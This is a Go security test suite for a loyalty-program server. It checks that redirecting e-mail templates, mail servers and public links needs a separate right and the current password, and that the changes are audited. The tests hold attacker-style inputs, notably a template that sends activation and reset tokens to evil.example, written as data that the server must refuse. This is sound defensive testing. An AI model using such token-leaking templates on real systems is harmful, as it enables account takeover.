package security_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"punchcard/app/servertest"
	"punchcard/platform/db/dbtest"
	"punchcard/platform/mail/mailtest"
	"punchcard/platform/testwait"
)

const (
	deliverySettings = "/api/DEFAULT/admin/message/settings"
	storeSettings    = "/api/DEFAULT/settings"
)

// security is a server with a mail server of the operator, and another one that an attacker runs.
type security struct {
	*testing.T
	base            string
	operator, other *mailtest.Server
	commits         testwait.Signal
	master, office  *client // office may change settings, and no security settings
}

func eachSecurity(t *testing.T, test func(s *security)) {
	t.Helper()
	dbtest.EachEngine(t, func(t *testing.T, engine string) {
		s := &security{T: t, operator: mailtest.Start(t), other: mailtest.Start(t), commits: testwait.NewSignal()}
		config := servertest.PlainConfig(servertest.Database(t, engine))
		config.SMTP, config.MailFrom = s.operator.URL(), "server@example.com"
		config.PublicURL, config.AllowPrivateAddresses = "https://loyalty.example", true
		config.OnCommit = s.commits.Send
		s.base = servertest.Run(t, config)
		s.master = servertest.LogInAdmin(t, s.base)
		s.master.Send("PUT", "/api/admin/data", servertest.FormType, "admin[email]=master@example.org").Must(t)
		role := servertest.AddRole(t, s.master, "Office", map[string][]string{"SETTINGS": {"MODIFY"}})
		s.master.Form("/api/admin/data", "admin[email]=office@example.org&admin[isActive]=1&"+
			"admin[plainPassword]=Correct-Horse-7&admin[roles][]="+role).Must(t)
		s.office = servertest.LogIn(t, s.base, "/api/admin/login_check", "office@example.org", "Correct-Horse-7")
		test(s)
		servertest.ExpectClean(t, config.Database)
	})
}

// refused expects a status, and a part of the body.
func (s *security) refused(r reply, status int, part string) {
	s.Helper()
	if r.Status != status || !strings.Contains(string(r.Body), part) {
		s.Errorf("%d %s, want %d with %s", r.Status, r.Body, status, part)
	}
}

// server are message settings with the mail server of the attacker.
func (s *security) server(further ...string) string {
	values := url.Values{
		"messageSettings[email][active]": {"1"}, "messageSettings[email][senderAddress]": {"shop@example.com"},
		"messageSettings[email][host]": {s.other.Host}, "messageSettings[email][port]": {fmt.Sprint(s.other.Port)},
		"messageSettings[email][security]": {"optional"}, "messageSettings[sms][active]": {"1"},
		"messageSettings[push][active]": {"1"},
	}
	for i := 0; i < len(further); i += 2 {
		values.Set("messageSettings["+further[i]+"]", further[i+1])
	}
	return values.Encode()
}

// template returns the id of a text in English.
func (s *security) template(event, channel string) string {
	s.Helper()
	var list struct{ Messages []struct{ ID string } }
	text := s.master.Send("GET", "/api/DEFAULT/message?language=en&channel="+channel+"&event="+event, "", "").Must(s.T)
	if err := json.Unmarshal([]byte(text), &list); err != nil || len(list.Messages) != 1 {
		s.Fatalf("%v: %s", err, text)
	}
	return list.Messages[0].ID
}

// on are the switches of the settings of a new store.
const on = "settings[returns]=1&settings[allTimeNotLocked]=1&settings[allowCustomersProfileEdits]=1&" +
	"settings[accountActivationRequired]=1"

// TestSecuritySettingsNeedTheirOwnRight shows that the right to change settings is not enough to lead messages with
// secrets elsewhere, and that it is enough for everything else in the same forms.
func TestSecuritySettingsNeedTheirOwnRight(t *testing.T) {
	eachSecurity(t, func(s *security) {
		const needed = "SECURITY MODIFY"
		evil := "message[enabled]=1&message[subject]=S&message[content]=" +
			url.QueryEscape("https://evil.example/{{ token }}{{ password }}")
		for _, event := range []string{"oloy.customer.activation", "oloy.customer.password_reset",
			"oloy.seller.password_reset", "oloy.customer.contact_change", "oloy.customer.invitation"} {
			text := strings.ReplaceAll(evil, url.QueryEscape("{{ password }}"), "")
			id := s.template(event, "email")
			s.refused(s.office.Send("PUT", "/api/DEFAULT/message/"+id, servertest.FormType, text), 403, needed)
			s.refused(s.office.Send("PUT", "/api/DEFAULT/settings/emails/"+id, servertest.FormType,
				strings.ReplaceAll(text, "message[", "email[")), 403, needed)
			s.refused(s.office.Form("/api/DEFAULT/message", text+
				"&message[channel]=email&message[language]=pl&message[event]="+event), 403, needed)
		}
		own := "&%s[currentPassword]=Correct-Horse-7"
		s.refused(s.office.Send("PUT", deliverySettings, servertest.FormType, s.server()+fmt.Sprintf(own,
			"messageSettings")), 403,
			needed)
		for _, gateway := range []string{"sms", "push"} {
			body := fmt.Sprintf("messageSettings[email][active]=1&messageSettings[%s][url]=http://127.0.0.1:1/", gateway)
			s.refused(s.office.Send("PUT", deliverySettings, servertest.FormType, body), 403, needed)
		}
		for _, name := range []string{"publicUrl", "messageLinksUrl"} {
			s.refused(s.office.Form(storeSettings, on+"&settings["+name+"]=https://evil.example"+fmt.Sprintf(own, "settings")),
				403, needed)
		}
		s.office.Send("PUT", "/api/DEFAULT/message/"+s.template("oloy.customer.registered", "email"), servertest.FormType,
			"message[subject]=S&message[content]=Hello").Must(s.T)
		s.office.Send("PUT", deliverySettings, servertest.FormType, "messageSettings[email][senderName]=Shop").Must(s.T)
		for _, body := range []string{"", "settings[email][senderName]=Shop"} { // would switch all channels off
			s.refused(s.office.Send("PUT", deliverySettings, servertest.FormType, body), 400, "This value should not be blank.")
		}
		s.office.Form(storeSettings, on+"&settings[programName]=Shop&settings[publicUrl]=").Must(s.T)
	})
}

// TestSecuritySettingsNeedThePassword shows how a master changes security settings, and what the change leaves behind:
// an entry in the audit log, and an e-mail to the masters by the operator's server.
func TestSecuritySettingsNeedThePassword(t *testing.T) {
	eachSecurity(t, func(s *security) {
		s.refused(s.master.Send("PUT", deliverySettings, servertest.FormType, s.server()), 400, "current password")
		s.refused(s.master.Send("PUT", deliverySettings, servertest.FormType, s.server("currentPassword", "wrong")), 400,
			"This value should be the user's current password.")
		if got := s.master.Send("GET", deliverySettings, "", "").Must(s.T); strings.Contains(got, s.other.Host) {
			s.Errorf("a refused change was stored: %s", got)
		}
		s.master.Send("PUT", deliverySettings, servertest.FormType, s.server("currentPassword", "open")).Must(s.T)
		got := s.operator.Next(s.T)
		if got.To != "master@example.org" || !strings.Contains(got.Text, "messageSettings[email]") ||
			!strings.Contains(got.Text, "store DEFAULT") || got.From != "server@example.com" {
			s.Errorf("the masters got %+v", got)
		}
		log := s.master.Send("GET", "/api/audit/log?eventType=UpdateMessageSettings", "", "").Must(s.T)
		if !strings.Contains(log, `"total":1`) || !strings.Contains(log, s.other.Host) || strings.Contains(log, "open\"") {
			s.Errorf("audit log: %s", log)
		}
		s.master.Send("PUT", deliverySettings, servertest.FormType, s.server()).Must(s.T) // as it is
		s.office.Send("PUT", deliverySettings, servertest.FormType, s.server("email][senderName", "Shop")).Must(s.T)

		s.master.Form(storeSettings, on+
			"&settings[publicUrl]=https://evil.example/&settings[currentPassword]=open").Must(s.T)
		if got := s.operator.Next(s.T); !strings.Contains(got.Text, "settings[publicUrl]") {
			s.Errorf("the masters got %+v", got)
		}
		s.office.Form(storeSettings, on+"&settings[publicUrl]=https://evil.example&settings[programName]="+
			url.QueryEscape("Look at https://evil.example")).Must(s.T)

		role := servertest.AddRole(s.T, s.master, "Security", map[string][]string{"SETTINGS": {"MODIFY"}, "SECURITY": {
			"MODIFY"}})
		const key = "key-of-an-integration"
		servertest.AddIntegration(s.T, s.master, role, key)
		integration := &client{T: s.T, Base: s.base}
		s.refused(integration.Send("PUT", deliverySettings+"?auth_token="+key, servertest.FormType,
			"messageSettings[email][active]=1"), 403, "password")
	})
}

// TestMessagesToAdministratorsAreTheServersOwn asks for a password of the administrator while every setting of the
// store is an attacker's: the link still goes out by the flags of the server, and leads to the server.
func TestMessagesToAdministratorsAreTheServersOwn(t *testing.T) {
	eachSecurity(t, func(s *security) {
		s.master.Send("PUT", deliverySettings, servertest.FormType,
			s.server("currentPassword", "open", "email][active", "0")).Must(s.T)
		s.master.Form(storeSettings, on+"&settings[publicUrl]=https://evil.example&settings[currentPassword]=open&"+
			"settings[messageLinksUrl]=https://shop.example&settings[programName]="+
			url.QueryEscape("https://evil.example")).Must(s.T)
		reset := s.template("oloy.admin.password_reset", "email")
		text := "message[enabled]=1&message[subject]=S&message[content]=x&message[currentPassword]=open"
		s.refused(s.master.Send("PUT", "/api/DEFAULT/message/"+reset, servertest.FormType, text), 400, "fixed")
		s.refused(s.master.Form("/api/DEFAULT/message/"+reset+"/deactivate", ""), 400, "fixed")
		s.refused(s.master.Form("/api/DEFAULT/message/"+reset+"/test", "message[to]=a@example.org&message[subject]=S&"+
			"message[content]=x"), 400, "fixed")
		s.refused(s.master.Form("/api/DEFAULT/message", text+"&message[channel]=email&message[language]=pl&"+
			"message[event]=oloy.admin.password_reset"), 400, "fixed")

		anybody := &client{T: s.T, Base: s.base}
		anybody.Form("/api/password/reset/request", "username=master@example.org").Must(s.T)
		for {
			got := s.operator.Next(s.T)
			if strings.Contains(got.Text, "security settings") {
				continue
			}
			if got.To != "master@example.org" || !strings.Contains(got.Text, "https://loyalty.example/reset/") ||
				strings.Contains(fmt.Sprint(got), "evil") || strings.Contains(fmt.Sprint(got), "shop.example") {
				s.Errorf("the administrator got %+v", got)
			}
			break
		}
		const working = `"administrators":{"working":true,"publicUrl":"https://loyalty.example","waiting":0}`
		s.commits.Until(s.T, "the status of messages to administrators", func() bool {
			return strings.Contains(s.master.Send("GET", "/api/DEFAULT/admin/message/status", "", "").Must(s.T), working)
		})
	})
}

// TestLinksOfAStore shows that links to customers lead to the origin that the store sets.
func TestLinksOfAStore(t *testing.T) {
	eachSecurity(t, func(s *security) {
		for _, wrong := range []string{"http://shop.example", "https://shop.example/path", "https://shop.example/",
			"https://user@shop.example", "shop.example", "https://Shop.example", "https://shop.example?a", "https://"} {
			s.refused(s.master.Form(storeSettings, on+"&settings[currentPassword]=open&settings[messageLinksUrl]="+
				url.QueryEscape(wrong)), 400, "messageLinksUrl")
		}
		s.master.Form(storeSettings, on+"&settings[currentPassword]=open&"+
			"settings[messageLinksUrl]=https://shop.example:8443").Must(s.T)
		s.master.Form("/api/DEFAULT/level/create", "level[translations][en][name]=Base&level[active]=1&"+
			"level[conditionValue]=0&level[reward][name]=B&level[reward][value]=0&level[reward][code]=B").Must(s.T)
		s.master.Form("/api/DEFAULT/customer/self_register", "customer[firstName]=Ida&customer[lastName]=Berg&"+
			"customer[email]=ida@example.org&customer[agreement1]=1&customer[plainPassword]=Correct-Horse-7").Must(s.T)
		m := mailbox{s.T, s.operator}
		s.master.Form("/api/DEFAULT/customer/activate/"+
			m.after("ida@example.org", "https://shop.example:8443/me/DEFAULT/activate/"), "").Must(s.T)
	})
}
